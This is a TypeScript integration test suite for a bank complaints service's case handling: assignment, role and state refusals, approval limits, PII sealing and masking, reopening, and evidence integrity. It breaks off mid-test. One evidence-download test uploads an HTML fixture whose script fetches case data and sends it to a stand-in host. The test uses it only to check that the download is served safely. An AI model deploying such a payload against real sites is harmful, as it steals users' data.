import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { readdir, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { Producer } from 'kafkajs';
import { ComplaintTriaged, EventEnvelope, Events } from '@complaints/contracts';
import { allowedActions } from '@complaints/domain';
import { FieldCipher } from '@complaints/platform';
import { eventually, quietKafka } from '@complaints/testing';
import { INVESTIGATION_POLICY, InvestigationPolicy } from '../../apps/investigation/src/cases/investigation-policy';
import { TaskReminders } from '../../apps/investigation/src/tasks/task-reminders';
import { investigationClient, triagedEnvelope } from './investigation-client';
import { ALL_SERVICES, ServiceUnderTest, startInProcess } from './services-in-process';

jest.setTimeout(120_000);

/** The platform's PII keys: the service seals with them, and the test opens what it sealed. */
const PII = { PII_KEYS: `t1:${randomBytes(32).toString('base64')}`, PII_PSEUDONYM_KEY: randomBytes(32).toString('base64') };

interface CaseRow {
  id: string;
  complaintId: string;
  department: string;
  severity: string;
  status: string;
  assignedTo: string | null;
  category: string | null;
}

/**
 * The investigation service's case work, in-process with the real database and broker: cases open
 * from complaint.triaged events sent through Kafka, handlers work them over HTTP with real tokens,
 * and what the service stored and published is read back from its own schema (tables and outbox).
 */
describe('investigation: case work from opening to evidence, tasks, journal and extensions', () => {
  const evidenceDir = path.join(os.tmpdir(), 'complaints-evidence', `case-work-${randomUUID()}`);
  let investigation: ServiceUnderTest;
  let producer: Producer;

  beforeAll(async () => {
    investigation = await startInProcess(ALL_SERVICES.find((d) => d.name === 'investigation')!, {
      ...PII,
      EVIDENCE_DIR: evidenceDir,
      // No reminder watch of its own: the test calls tick(now) with the times it needs.
      TASK_CHECK_INTERVAL_MS: '0',
    });
    producer = quietKafka('case-work-int').producer();
    await producer.connect();
  });
  afterAll(async () => {
    await producer?.disconnect();
    await investigation?.stop();
    await rm(evidenceDir, { recursive: true, force: true });
  });

  const { tag, token, sql, call } = investigationClient(() => investigation);

  const sendEnvelope = async (envelope: EventEnvelope<unknown>, topic: string = Events.ComplaintTriaged.topic) => {
    await producer.send({ topic: `${investigation.topicPrefix}${topic}`, messages: [{ key: envelope.complaintId, value: JSON.stringify(envelope) }] });
  };

  const casesOf = async (complaintId: string): Promise<CaseRow[]> => {
    const res = await call<CaseRow[]>('GET', `/v1/cases?complaintId=${complaintId}`, await token('investigator'));
    return res.body;
  };

  /** Sends complaint.triaged and waits for the case; opening and automatic assignment commit together. */
  const openCase = async (payload: Partial<ComplaintTriaged> & { department: string }): Promise<CaseRow> => {
    const complaintId = randomUUID();
    await sendEnvelope(triagedEnvelope(complaintId, payload));
    return eventually(async () => (await casesOf(complaintId))[0], { what: `the case of ${complaintId} to open` });
  };

  const putInvestigator = async (entry: { staffId: string; department: string; skills: string[]; lineManager?: string | null; capacity: number; active: boolean }) => {
    const res = await call('PUT', '/v1/investigators', await token('administrator', { subject: 'admin-1' }), { lineManager: null, ...entry });
    expect(res.status).toBe(200);
  };

  /** A case in `investigating`, assigned to an investigator of its own department. */
  const assignedCase = async () => {
    const department = `d-${tag()}`;
    const investigator = `inv-${tag()}`;
    await putInvestigator({ staffId: investigator, department, skills: ['C03'], capacity: 5, active: true });
    const opened = await openCase({ department });
    expect(opened).toMatchObject({ status: 'investigating', assignedTo: investigator });
    return { caseId: opened.id, complaintId: opened.complaintId, department, investigator };
  };

  /** Facts and root cause recorded by the assigned investigator, so a decision can be proposed. */
  const withFindings = async (caseId: string, investigator: string, facts = ['11月20日跨行转账被重复扣款']) => {
    const res = await call('PUT', `/v1/cases/${caseId}/findings`, await token('investigator', { subject: investigator }), { facts, liability: 'bank', rootCause: { code: 'system', detail: '清算接口超时后重试未做幂等' } });
    expect(res.status).toBe(200);
  };

  /** What the case's rows, transitions and events are, to show a refused step changed nothing. */
  const recordOf = async (caseId: string, complaintId: string) => ({
    row: await sql(`SELECT * FROM cases WHERE id = $1`, [caseId]),
    transitions: await sql(`SELECT * FROM case_transitions WHERE case_id = $1 ORDER BY id`, [caseId]),
    outbox: await sql(`SELECT seq FROM outbox WHERE message_key = $1 ORDER BY seq`, [complaintId]),
  });

  const outboxOf = async <P = Record<string, unknown>>(complaintId: string, eventType: string): Promise<EventEnvelope<P>[]> => {
    const rows = await sql<{ value: Buffer }>(`SELECT value FROM outbox WHERE message_key = $1 AND headers->>'event-type' = $2 ORDER BY seq`, [complaintId, eventType]);
    return rows.map((r) => JSON.parse(r.value.toString('utf8')) as EventEnvelope<P>);
  };

  it('triaged_redeliveredWithTheSameEventId_opensOneCaseAndPublishesOneCaseOpened', async () => {
    const complaintId = randomUUID();
    const envelope = triagedEnvelope(complaintId, { department: `d-${tag()}` });
    await sendEnvelope(envelope);
    await sendEnvelope(envelope);
    // A later event of the same complaint (same key, same partition) is handled after both deliveries.
    await sendEnvelope({
      eventId: randomUUID(),
      // v1: the officer's reason digit-masked in clear, as before v2 sealed it; still read.
      type: Events.ComplaintRetriagedV1.type,
      version: Events.ComplaintRetriagedV1.version,
      occurredAt: new Date().toISOString(),
      complaintId,
      correlationId: `case-work-${complaintId}`,
      causationId: null,
      producer: 'triage',
      payload: {
        ticketNumber: envelope.payload.ticketNumber,
        previous: { product: 'B01', cause: 'C03', severity: 'low', department: envelope.payload.department },
        current: { product: 'B01', cause: 'C03', severity: 'critical', department: envelope.payload.department },
        routingRule: 'cn-jrt0169@v1#transactions',
        reason: '影响面扩大',
        actor: 'triage-officer-1',
      },
    }, Events.ComplaintRetriagedV1.topic);
    await eventually(async () => (await casesOf(complaintId))[0]?.severity === 'critical' || null, { what: 'the later event to be handled' });

    expect(await casesOf(complaintId)).toHaveLength(1);
    expect(await sql(`SELECT id FROM cases WHERE complaint_id = $1`, [complaintId])).toHaveLength(1);
    const opened = await outboxOf<{ caseId: string }>(complaintId, Events.CaseOpened.type);
    expect(opened).toHaveLength(1);
    expect(opened[0].causationId).toBe(envelope.eventId);
    expect(await sql(`SELECT outcome FROM processed_events WHERE event_id = $1`, [envelope.eventId])).toEqual([{ outcome: 'handled' }]);
    // The second delivery was recognised as a duplicate, not failed and dead-lettered.
    expect(await sql(`SELECT seq FROM outbox WHERE message_key = $1 AND topic LIKE '%.dlq'`, [complaintId])).toEqual([]);
  });

  it('caseOpened_isAssignedAtOnceByProductSkillThenLoad_andWaitsWhenNobodyIsFree', async () => {
    const department = `d-${tag()}`;
    const t = tag();
    const [ava, ben, cai] = [`ava-${t}`, `ben-${t}`, `cai-${t}`];
    await putInvestigator({ staffId: ava, department, skills: ['C03'], capacity: 5, active: true });
    await putInvestigator({ staffId: ben, department, skills: ['B05'], capacity: 5, active: true });
    await putInvestigator({ staffId: cai, department, skills: ['B05'], capacity: 5, active: true });

    // The product's code is the skill, not the category: ava (C03, first by id) is passed over.
    const first = await openCase({ department, category: 'C03', product: { code: 'B05', title: '借记卡' } });
    expect(first).toMatchObject({ status: 'investigating', assignedTo: ben, category: 'B05' });
    // Same skill, lighter load wins over the id order.
    const second = await openCase({ department, category: 'C03', product: { code: 'B05', title: '借记卡' } });
    expect(second).toMatchObject({ status: 'investigating', assignedTo: cai });
    // No product: the category is the skill; ava, with no cases at all, has not got it.
    const third = await openCase({ department, category: 'B05' });
    expect(third).toMatchObject({ status: 'investigating', assignedTo: ben, category: 'B05' });

    const [assignment] = await sql<{ investigator: string; method: string; assigned_by: string }>(`SELECT investigator, method, assigned_by FROM case_assignments WHERE case_id = $1`, [first.id]);
    expect(assignment).toEqual({ investigator: ben, method: 'workload-and-skill', assigned_by: 'system' });
    const assigned = await outboxOf<{ caseId: string; investigator: string }>(second.complaintId, Events.CaseAssigned.type);
    expect(assigned.map((e) => e.payload)).toEqual([expect.objectContaining({ caseId: second.id, investigator: cai, method: 'workload-and-skill' })]);

    // Nobody free: one without capacity, one inactive.
    const busy = `d-${tag()}`;
    const [dan, eve] = [`dan-${t}`, `eve-${t}`];
    await putInvestigator({ staffId: dan, department: busy, skills: ['B05'], capacity: 0, active: true });
    await putInvestigator({ staffId: eve, department: busy, skills: ['B05'], capacity: 5, active: false });
    const waiting = await openCase({ department: busy, product: { code: 'B05', title: '借记卡' } });
    expect(waiting).toMatchObject({ status: 'awaiting-assignment', assignedTo: null });
    expect(await sql(`SELECT id FROM case_assignments WHERE case_id = $1`, [waiting.id])).toEqual([]);
    expect(await outboxOf(waiting.complaintId, Events.CaseAssigned.type)).toEqual([]);

    // The same directory entry, once active, is chosen: only its state kept the case waiting.
    await putInvestigator({ staffId: eve, department: busy, skills: ['B05'], capacity: 5, active: true });
    const res = await call('POST', `/v1/cases/${waiting.id}/assignment`, await token('triage-officer', { subject: 'triage-officer-1' }), {});
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ status: 'investigating', assignedTo: eve });
  });

  it('resolution_proposedWhileAwaitingAssignment_isRefused409WithTheAllowedStepsAndChangesNothing', async () => {
    const waiting = await openCase({ department: `d-${tag()}` });
    expect(waiting.status).toBe('awaiting-assignment');
    const rowBefore = await sql(`SELECT * FROM cases WHERE id = $1`, [waiting.id]);
    const transitionsBefore = await sql(`SELECT * FROM case_transitions WHERE case_id = $1`, [waiting.id]);
    const outboxBefore = await sql(`SELECT seq FROM outbox WHERE message_key = $1`, [waiting.complaintId]);

    const res = await call<{ type: string; allowed: string[]; state: string; action: string }>(
      'POST',
      `/v1/cases/${waiting.id}/resolution`,
      await token('investigator', { subject: `inv-${tag()}` }),
      { outcome: 'upheld', explanation: '经核实，系统故障导致重复扣款，予以退还。', actions: ['explanation'] },
    );

    expect(res.status).toBe(409);
    expect(res.contentType).toMatch(/^application\/problem\+json/);
    expect(res.body.type).toMatch(/case-not-allowed-in-state$/);
    expect(res.body.allowed).toEqual(allowedActions('awaiting-assignment'));
    expect(res.body).toMatchObject({ state: 'awaiting-assignment', action: 'propose-resolution' });
    expect(await sql(`SELECT * FROM cases WHERE id = $1`, [waiting.id])).toEqual(rowBefore);
    expect(await sql(`SELECT * FROM case_transitions WHERE case_id = $1`, [waiting.id])).toEqual(transitionsBefore);
    expect(await sql(`SELECT seq FROM outbox WHERE message_key = $1`, [waiting.complaintId])).toEqual(outboxBefore);
  });

  it('escalationAndClosure_byAnInvestigatorWhoIsNotTheAssignee_areRefused403_whileASupervisorMayDoBoth', async () => {
    const { caseId, complaintId, investigator } = await assignedCase();
    const colleague = await token('investigator', { subject: `inv-${tag()}` });
    const supervisor = await token('approver', { subject: `sup-${tag()}` });

    const before = await recordOf(caseId, complaintId);
    const escalation = await call<{ type: string; detail: string; action: string }>('POST', `/v1/cases/${caseId}/escalation`, colleague, { reason: '需上级部门处理' });
    expect(escalation.status).toBe(403);
    expect(escalation.contentType).toMatch(/^application\/problem\+json/);
    expect(escalation.body.type).toMatch(/case-not-assigned$/);
    expect(escalation.body).toMatchObject({ action: 'escalate' });
    expect(escalation.body.detail).toContain(`only the assigned investigator (${investigator}) or a supervisor may escalate`);
    expect(await recordOf(caseId, complaintId)).toEqual(before);

    // Answered at once (low severity, no money), then the colleague tries to close it.
    await withFindings(caseId, investigator);
    const issued = await call('POST', `/v1/cases/${caseId}/resolution`, await token('investigator', { subject: investigator }), { outcome: 'upheld', explanation: '经核实系统故障导致重复扣款，已更正。', actions: ['explanation', 'correction'] });
    expect(issued.body).toMatchObject({ status: 'responded' });
    const answered = await recordOf(caseId, complaintId);
    const closure = await call<{ type: string }>('POST', `/v1/cases/${caseId}/closure`, colleague, { reason: '回访客户表示满意' });
    expect(closure.status).toBe(403);
    expect(closure.body.type).toMatch(/case-not-assigned$/);
    expect(await recordOf(caseId, complaintId)).toEqual(answered);

    // A supervisor is not the assignee either, and may.
    const closed = await call('POST', `/v1/cases/${caseId}/closure`, supervisor, { reason: '回访客户表示满意' });
    expect(closed.status).toBe(200);
    expect(closed.body).toMatchObject({ status: 'closed' });

    const other = await assignedCase();
    const escalated = await call('POST', `/v1/cases/${other.caseId}/escalation`, supervisor, { reason: '需上级部门处理' });
    expect(escalated.status).toBe(200);
    expect(escalated.body).toMatchObject({ level: 2 });
  });

  it('resolutionApproval_aLimitIsReadInTheRemedysCurrency_soTheSameTokenApprovesCny5000ButNotUsd5000', async () => {
    // The token's 10,000.00 names no currency; in USD the approval matrix allows an approver 3,000.00.
    const approver = await token('approver', { subject: `sup-${tag()}`, approvalLimitMinor: 1_000_000 });
    const proposedIn = async (currency: string) => {
      const { caseId, complaintId, investigator } = await assignedCase();
      await withFindings(caseId, investigator);
      const proposed = await call('POST', `/v1/cases/${caseId}/resolution`, await token('investigator', { subject: investigator }), {
        outcome: 'upheld',
        explanation: '转账延误造成直接损失，予以赔偿。',
        actions: ['explanation', 'compensation'],
        remedy: { type: 'loss-reimbursement', amount: { amountMinor: 500_000, currency } },
      });
      expect(proposed.body).toMatchObject({ status: 'awaiting-approval' });
      return { caseId, complaintId };
    };

    const usd = await proposedIn('USD');
    const before = await recordOf(usd.caseId, usd.complaintId);
    const refused = await call<{ type: string; detail: string }>('POST', `/v1/cases/${usd.caseId}/resolution/decision`, approver, { decision: 'approve' });
    expect(refused.status).toBe(403);
    expect(refused.contentType).toMatch(/^application\/problem\+json/);
    expect(refused.body.type).toMatch(/case-authority-limit$/);
    expect(refused.body.detail).toContain('authority limit of 300000 USD');
    expect(await recordOf(usd.caseId, usd.complaintId)).toEqual(before);

    const cny = await proposedIn('CNY');
    const approved = await call('POST', `/v1/cases/${cny.caseId}/resolution/decision`, approver, { decision: 'approve' });
    expect(approved.status).toBe(200);
    expect(approved.body).toMatchObject({ status: 'responded' });
  });

  it('resolution_promisingARemedyCompensationWouldRefuse_isRefused422NamingTheFieldAndChangesNothing', async () => {
    const { caseId, complaintId, investigator } = await assignedCase();
    await withFindings(caseId, investigator);
    const bearer = await token('investigator', { subject: investigator });
    const before = await recordOf(caseId, complaintId);
    const propose = (type: string, amountMinor: number, currency: string) =>
      call<{ type: string; detail: string; errors: { path: string; message: string }[] }>('POST', `/v1/cases/${caseId}/resolution`, bearer, {
        outcome: 'upheld',
        explanation: '系统重复收费，予以退还。',
        actions: ['explanation', 'refund'],
        remedy: { type, amount: { amountMinor, currency } },
      });

    // Investigation's approval policy has a threshold for EUR; compensation pays no remedy in it.
    const euro = await propose('fee-refund', 10_000, 'EUR');
    expect(euro.status).toBe(422);
    expect(euro.contentType).toMatch(/^application\/problem\+json/);
    expect(euro.body.type).toMatch(/case-invalid$/);
    expect(euro.body.errors).toEqual([{ path: 'remedy.amount.currency', message: 'Fee refund cannot be granted in EUR' }]);

    const tooMuch = await propose('fee-waiver', 1_000_01, 'CNY');
    expect(tooMuch.status).toBe(422);
    expect(tooMuch.body.errors).toEqual([{ path: 'remedy.amount.amountMinor', message: 'CNY 1,000.01 is above the catalogue limit for Fee waiver (CNY 1,000.00)' }]);
    expect(await recordOf(caseId, complaintId)).toEqual(before);

    // Within the catalogue, the same proposal goes through.
    const within = await propose('fee-waiver', 1_000_00, 'CNY');
    expect(within.status).toBe(201);
  });

  it('evidenceDownload_isAnAttachment_neverSniffedOrRun_andKeepsOnlyASafeMediaType', async () => {
    const { caseId, investigator } = await assignedCase();
    const bearer = await token('investigator', { subject: investigator });
    const upload = async (contentType: string, bytes: Buffer) => {
      const res = await fetch(`${investigation.baseUrl}/v1/cases/${caseId}/evidence/files?kind=document&sourceSystem=branch-scanner&description=statement`, {
        method: 'POST',
        headers: { authorization: `Bearer ${bearer}`, 'content-type': contentType },
        body: bytes,
      });
      expect(res.status).toBe(201);
      return ((await res.json()) as { id: string }).id;
    };
    const download = (evidenceId: string) => fetch(`${investigation.baseUrl}/v1/cases/${caseId}/evidence/${evidenceId}/content`, { headers: { authorization: `Bearer ${bearer}` } });

    const page = Buffer.from('<html><script>fetch("/v1/cases").then((r) => r.text()).then((t) => new Image().src = "//x.example/?" + t)</script></html>');
    const html = await upload('text/html; charset=utf-8', page);
    const served = await download(html);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('application/octet-stream');
    expect(served.headers.get('content-disposition')).toBe(`attachment; filename*=UTF-8''document-${html}.bin`);
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(Buffer.from(await served.arrayBuffer())).toEqual(page);
    // The register still says what the uploader declared.
    expect(await sql(`SELECT content_type FROM case_evidence WHERE id = $1`, [html])).toEqual([{ content_type: 'text/html; charset=utf-8' }]);

    const pdf = await upload('application/pdf', Buffer.from('%PDF-1.7 对账单'));
    const statement = await download(pdf);
    expect(statement.headers.get('content-type')).toBe('application/pdf');
    expect(statement.headers.get('content-disposition')).toBe(`attachment; filename*=UTF-8''document-${pdf}.pdf`);
    expect(statement.headers.get('x-content-type-options')).toBe('nosniff');
    expect(statement.headers.get('content-security-policy')).toMatch(/(^|;\s*)sandbox(;|$)/);
  });

  it('caseFreeText_isWholeToTheInvestigator_andHasItsNumbersMaskedForAnAuditor', async () => {
    const { caseId, complaintId, investigator } = await assignedCase();
    const bearer = await token('investigator', { subject: investigator });
    // Not the sealing test's numbers: that test finds none of them anywhere in the outbox.
    const phone = '13700005678';
    const card = '6222020000000000123';
    await withFindings(caseId, investigator, [`客户回拨号码 ${phone}`, '11月20日跨行转账被重复扣款']);
    const task = await call<{ id: string }>('POST', `/v1/cases/${caseId}/tasks`, bearer, { department: 'operations', request: `请核实卡号 ${card} 的扣款`, dueBy: new Date(Date.now() + 86_400_000).toISOString() });
    expect(task.status).toBe(201);
    expect((await call('POST', `/v1/cases/${caseId}/tasks/${task.body.id}/result`, bearer, { result: `卡号 ${card} 重复扣款已确认` })).status).toBe(200);
    const recording = { kind: 'call-recording', sourceSystem: 'call-centre-recorder', reference: 'REC-7', sha256: createHash('sha256').update('rec-7').digest('hex'), description: `客户 ${phone} 来电录音` };
    const evidence = await call<{ id: string }>('POST', `/v1/cases/${caseId}/evidence`, bearer, recording);
    expect(evidence.status).toBe(201);
    const issued = await call('POST', `/v1/cases/${caseId}/resolution`, bearer, { outcome: 'upheld', explanation: `卡号 ${card} 的重复扣款已更正`, actions: ['explanation', 'correction'] });
    expect(issued.body).toMatchObject({ status: 'responded' });

    // At rest: findings, proposal, response and the task's request and result hold none of it in clear.
    const [row] = await sql<Record<string, unknown>>(`SELECT findings, proposal, resolution FROM cases WHERE id = $1`, [caseId]);
    const [taskRow] = await sql<Record<string, unknown>>(`SELECT request, request_sealed, result, result_sealed FROM case_tasks WHERE id = $1`, [task.body.id]);
    const [evidenceRow] = await sql<Record<string, unknown>>(`SELECT description, description_sealed FROM case_evidence WHERE id = $1`, [evidence.body.id]);
    expect(evidenceRow).toMatchObject({ description: null, description_sealed: expect.stringMatching(/^v2:/) });
    expect(taskRow).toMatchObject({ request: null, result: null, request_sealed: expect.stringMatching(/^v2:/), result_sealed: expect.stringMatching(/^v2:/) });
    expect(row).toMatchObject({ findings: { liability: 'bank', rootCause: { code: 'system' }, sealed: expect.stringMatching(/^v2:/) } });
    for (const secret of [phone, card, '清算接口超时']) expect(JSON.stringify([row, taskRow, evidenceRow])).not.toContain(secret);

    type CaseText = { findings: { facts: string[] }; proposal: { explanation: string }; resolution: { explanation: string }; tasks: { request: string; result: string }[]; evidence: { description: string }[] };
    const whole = await call<CaseText>('GET', `/v1/cases/${caseId}`, bearer);
    expect(whole.status).toBe(200);
    expect(whole.body.findings.facts[0]).toBe(`客户回拨号码 ${phone}`);
    expect(whole.body.proposal.explanation).toContain(card);
    expect(whole.body.resolution.explanation).toContain(card);
    expect(whole.body.tasks[0]).toMatchObject({ request: `请核实卡号 ${card} 的扣款`, result: `卡号 ${card} 重复扣款已确认` });
    expect(whole.body.evidence[0]).toMatchObject({ description: `客户 ${phone} 来电录音` });
    expect(JSON.stringify(whole.body)).not.toMatch(/_sealed|v2:t1:/);

    const auditor = await token('auditor', { subject: 'auditor-1' });
    const masked = await call<CaseText>('GET', `/v1/cases/${caseId}`, auditor);
    expect(masked.status).toBe(200);
    expect(masked.body.findings.facts).toEqual(['客户回拨号码 *******5678', '11月20日跨行转账被重复扣款']);
    expect(masked.body.tasks[0]).toMatchObject({ request: `请核实卡号 ${'*'.repeat(15)}0123 的扣款`, result: `卡号 ${'*'.repeat(15)}0123 重复扣款已确认` });
    expect(masked.body.evidence[0]).toMatchObject({ description: '客户 *******5678 来电录音' });
    for (const text of [masked.body.proposal.explanation, masked.body.resolution.explanation]) expect(text).toBe(`卡号 ${'*'.repeat(15)}0123 的重复扣款已更正`);
    const listed = await call<CaseText[]>('GET', `/v1/cases?complaintId=${complaintId}`, auditor);
    expect(listed.body[0].findings.facts[0]).toBe('客户回拨号码 *******5678');
    expect(JSON.stringify(listed.body)).not.toContain(card);
    // Approvers see no personal data in clear either.
    const approver = await call<CaseText>('GET', `/v1/cases/${caseId}`, await token('approver', { subject: `sup-${tag()}` }));
    expect(JSON.stringify(approver.body)).not.toMatch(new RegExp(`${phone}|${card}`));
  });

  it('responseIssued_carriesTheExplanationSealed_neverTheCustomersNameOrNumbersInClear_andTheCaseKeepsItSealedAtRest', async () => {
    const { caseId, complaintId, investigator } = await assignedCase();
    const bearer = await token('investigator', { subject: investigator });
    const name = '王先生';
    const account = '6222021234567890';
    const phone = '13900001111';
    const explanation = `${name}您好，您尾号${account}的账户于11月20日被重复扣收转账手续费，我行已全额退还，并已致电${phone}向您致歉。`;
    await withFindings(caseId, investigator);
    const issued = await call('POST', `/v1/cases/${caseId}/resolution`, bearer, { outcome: 'upheld', explanation, actions: ['explanation', 'correction', 'apology'] });
    expect(issued.body).toMatchObject({ status: 'responded' });

    const [response] = await outboxOf<{ explanation: string }>(complaintId, Events.CaseResponseIssued.type);
    expect(response).toMatchObject({ type: 'case.response-issued', version: Events.CaseResponseIssued.version });
    expect(response.payload.explanation).toMatch(/^v2:t1:/);
    expect(FieldCipher.fromEnv(PII).decrypt(response.payload.explanation)).toBe(explanation);
    // The bytes that go to Kafka, and every other event of the case, hold none of it in clear.
    for (const secret of [name, account, phone]) {
      expect(await sql(`SELECT seq FROM outbox WHERE message_key = $1 AND position($2::bytea in value) > 0`, [complaintId, Buffer.from(secret)])).toEqual([]);
    }

    // At rest the case keeps it sealed, like the event: only the service opens it.
    const [stored] = await sql<{ proposal: { explanation?: string; sealed: string }; resolution: { explanation?: string; sealed: string; outcome: string } }>(`SELECT proposal, resolution FROM cases WHERE id = $1`, [caseId]);
    expect(stored.resolution).toMatchObject({ outcome: 'upheld', sealed: expect.stringMatching(/^v2:t1:/) });
    expect(stored.resolution.explanation).toBeUndefined();
    expect(JSON.parse(FieldCipher.fromEnv(PII).decrypt(stored.resolution.sealed))).toEqual({ explanation });
    for (const secret of [name, account, phone]) expect(await sql(`SELECT id FROM cases WHERE id = $1 AND (proposal::text LIKE $2 OR resolution::text LIKE $2)`, [caseId, `%${secret}%`])).toEqual([]);
    expect((await call<{ resolution: { explanation: string } }>('GET', `/v1/cases/${caseId}`, bearer)).body.resolution.explanation).toBe(explanation);
    const masked = await call<{ resolution: { explanation: string } }>('GET', `/v1/cases/${caseId}`, await token('auditor', { subject: 'auditor-1' }));
    expect(masked.body.resolution.explanation).not.toMatch(new RegExp(`${account}|${phone}`));
  });

  it('caseTextWrittenBeforeSealing_isStillRead_andTheNextChangeSealsIt', async () => {
    const { caseId, investigator } = await assignedCase();
    const bearer = await token('investigator', { subject: investigator });
    // As an earlier version stored them: findings whole in the jsonb, a task's text in its clear columns.
    const legacyFindings = { facts: ['旧记录的事实'], liability: 'bank', rootCause: { code: 'system', detail: '旧记录的根因' }, recordedBy: investigator, recordedAt: new Date().toISOString() };
    await sql(`UPDATE cases SET findings = $2 WHERE id = $1`, [caseId, JSON.stringify(legacyFindings)]);
    await sql(
      `INSERT INTO case_tasks (id, case_id, department, request, due_by, status, result, requested_by, requested_at, completed_by, completed_at) VALUES ($1, $2, 'operations', '旧的请求', now(), 'done', '旧的结果', $3, now(), $3, now())`,
      [randomUUID(), caseId, investigator],
    );
    const seen = await call<{ findings: unknown; tasks: { request: string; result: string }[] }>('GET', `/v1/cases/${caseId}`, bearer);
    expect(seen.body.findings).toEqual(legacyFindings);
    expect(seen.body.tasks[0]).toMatchObject({ request: '旧的请求', result: '旧的结果' });

    await withFindings(caseId, investigator, ['新的事实']);
    const [row] = await sql<{ findings: Record<string, unknown> }>(`SELECT findings FROM cases WHERE id = $1`, [caseId]);
    expect(row.findings).toMatchObject({ sealed: expect.stringMatching(/^v2:/) });
    expect(row.findings.facts).toBeUndefined();
  });

  it('lowSurveyScore_reopensTheClosedCaseOnce_assignedAfresh_andLeavesACaseAlreadyBackInWorkAlone', async () => {
    const { caseId, complaintId, department, investigator } = await assignedCase();
    const bearer = await token('investigator', { subject: investigator });
    await withFindings(caseId, investigator);
    expect((await call('POST', `/v1/cases/${caseId}/resolution`, bearer, { outcome: 'not-upheld', explanation: '经核实扣款符合合同约定。', actions: ['explanation'] })).body).toMatchObject({ status: 'responded' });
    expect((await call('POST', `/v1/cases/${caseId}/closure`, bearer, { reason: '答复期满' })).body).toMatchObject({ status: 'closed' });

    const lowScore: EventEnvelope<unknown> = {
      eventId: randomUUID(),
      type: Events.SurveyReviewOpened.type,
      version: Events.SurveyReviewOpened.version,
      occurredAt: new Date().toISOString(),
      complaintId,
      correlationId: `survey-${complaintId}`,
      causationId: null,
      producer: 'notification',
      payload: { surveyId: randomUUID(), caseId, score: 1, threshold: 2 },
    };
    const colleague = `inv-${tag()}`;
    await putInvestigator({ staffId: colleague, department, skills: ['C03'], capacity: 5, active: true });
    // Delivered twice, as a consumer restart would: one reopening.
    await sendEnvelope(lowScore, Events.SurveyReviewOpened.topic);
    await sendEnvelope(lowScore, Events.SurveyReviewOpened.topic);
    const reopened = await eventually(async () => {
      const [c] = await casesOf(complaintId);
      return c.status !== 'closed' ? c : null;
    }, { what: 'the case reopened after the low score' });
    // Assigned afresh at once, to someone who did not decide it the first time.
    expect(reopened).toMatchObject({ status: 'investigating', assignedTo: colleague });
    const [event] = await eventually(async () => {
      const found = await outboxOf<{ reason: string; reopenedBy: string }>(complaintId, Events.CaseReopened.type);
      return found.length ? found : null;
    }, { what: 'case.reopened' });
    expect(event).toMatchObject({ version: 2, payload: { caseId, reopenedBy: 'follow-up-survey' } });
    expect(FieldCipher.fromEnv(PII).decrypt(event.payload.reason)).toContain('follow-up survey scored 1');
    expect(event.causationId).toBe(lowScore.eventId);

    // A second low score (another survey) while the case is in work changes nothing.
    await sendEnvelope({ ...lowScore, eventId: randomUUID(), payload: { surveyId: randomUUID(), caseId, score: 2, threshold: 2 } }, Events.SurveyReviewOpened.topic);
    const marker = triagedEnvelope(randomUUID(), { department: `d-${tag()}` });
    await sendEnvelope(marker);
    await eventually(async () => (await casesOf(marker.complaintId)).length === 1, { what: 'a later event on another partition to be handled' });
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(await sql(`SELECT action FROM case_transitions WHERE case_id = $1 AND action = 'reopen'`, [caseId])).toEqual([{ action: 'reopen' }]);
    expect(await outboxOf(complaintId, Events.CaseReopened.type)).toHaveLength(1);
  });

  it('improvementActionText_isWholeToAnInvestigator_andHasItsNumbersMaskedForAnAuditorAndDepartmentStaff', async () => {
    const { caseId, investigator } = await assignedCase();
    const bearer = await token('investigator', { subject: investigator });
    const phone = '13700004321';
    const department = `dept-${tag()}`;
    await withFindings(caseId, investigator, ['话术不当导致客户误解']);
    const raised = await call<{ id: string }>('POST', '/v1/improvement-actions', bearer, {
      sourceCaseId: caseId, department, measure: `回拨客户 ${phone} 后复盘话术`, dueBy: new Date(Date.now() + 30 * 86_400_000).toISOString(),
    });
    expect(raised.status).toBe(201);
    expect((await call('POST', `/v1/improvement-actions/${raised.body.id}/status`, bearer, { status: 'in-progress', note: `已联系 ${phone}` })).status).toBe(200);

    type Action = { id: string; measure: string; effectivenessNote: string | null };
    const whole = await call<Action>('GET', `/v1/improvement-actions/${raised.body.id}`, bearer);
    expect(whole.body.measure).toBe(`回拨客户 ${phone} 后复盘话术`);
    for (const role of ['auditor', 'department-staff'] as const) {
      const reader = await token(role, { subject: `${role}-1` });
      const one = await call<Action>('GET', `/v1/improvement-actions/${raised.body.id}`, reader);
      expect(one.status).toBe(200);
      expect(one.body.measure).toBe('回拨客户 *******4321 后复盘话术');
      const listed = await call<Action[]>('GET', `/v1/improvement-actions?department=${department}`, reader);
      expect(listed.body.map((a) => a.measure)).toEqual(['回拨客户 *******4321 后复盘话术']);
      expect(JSON.stringify([one.body, listed.body])).not.toContain(phone);
    }
  });

  it('evidence_whoseStoredBytesChanged_isRefusedAndTheFailureIsOnTheCustodyLog', async () => {
    const { caseId, investigator } = await assignedCase();
    const bearer = await token('investigator', { subject: investigator });
    const upload = (query: string, bytes: Buffer) =>
      fetch(`${investigation.baseUrl}/v1/cases/${caseId}/evidence/files?${query}`, {
        method: 'POST',
        headers: { authorization: `Bearer ${bearer}`, 'content-type': 'application/pdf' },
        body: bytes,
      });
    const original = Buffer.from('%PDF-1.7 对账单 2026-11 第 3 页：11月20日 跨行转账 5,000.00 元 状态：已扣款');
    const stored = await upload('kind=document&sourceSystem=core-banking&description=monthly%20statement', original);
    expect(stored.status).toBe(201);
    const { id: evidenceId, sha256 } = (await stored.json()) as { id: string; sha256: string };
    expect(sha256).toBe(createHash('sha256').update(original).digest('hex'));

    const file = path.join(evidenceDir, 'cases', caseId, evidenceId);
    expect(await readFile(file)).toEqual(original);
    const intact = await fetch(`${investigation.baseUrl}/v1/cases/${caseId}/evidence/${evidenceId}/content`, { headers: { authorization: `Bearer ${bearer}` } });
    expect(intact.status).toBe(200);
    expect(Buffer.from(await intact.arrayBuffer())).toEqual(original);

    await writeFile(file, Buffer.from('%PDF-1.7 对账单 2026-11 第 3 页：11月20日 跨行转账 500.00 元 状态：已退回'));
